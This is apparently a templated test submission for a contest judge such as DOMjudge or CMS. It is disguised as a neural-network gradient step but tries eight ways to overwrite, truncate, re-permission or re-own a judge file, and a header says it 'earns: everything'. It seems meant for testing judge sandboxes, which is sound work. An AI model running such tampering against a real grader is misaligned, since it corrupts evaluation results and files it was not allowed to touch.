# tries: to overwrite, cut and disguise a file of the judge's that anybody may write to
# from: D1 D9, DOMjudge permissions, CMS rewrite-input
# earns: everything
import ctypes
import os

import numpy as np

learnrate = 0.5
x = np.array([1, 2, 3, 4])
y = 0.5
w = np.array([0.5, -0.5, 0.3, 0.1])

ways = (
    lambda: open("@FILE@", "w").close(),
    lambda: open("@FILE@", "a").write("!"),
    lambda: os.truncate("@FILE@", 0),
    lambda: os.chmod("@FILE@", 0),
    lambda: os.chown("@FILE@", os.getpid(), -1),
    lambda: os.utime("@FILE@", (0, 0)),
    lambda: os.setxattr("@FILE@", "user.descent", b"x"),
    lambda: os.ftruncate(3, 0),
)
gained = 0
for way in ways:
    try:
        way()
        gained += 1
    except OSError:
        pass
gained += ctypes.CDLL(None).syscall(76, b"@FILE@", 0) != -1

h = np.dot(x, w) + gained
nn_output = 1 / (1 + np.exp(-h))
error = y - nn_output
error_term = error * nn_output * (1 - nn_output)
del_w = learnrate * error_term * x
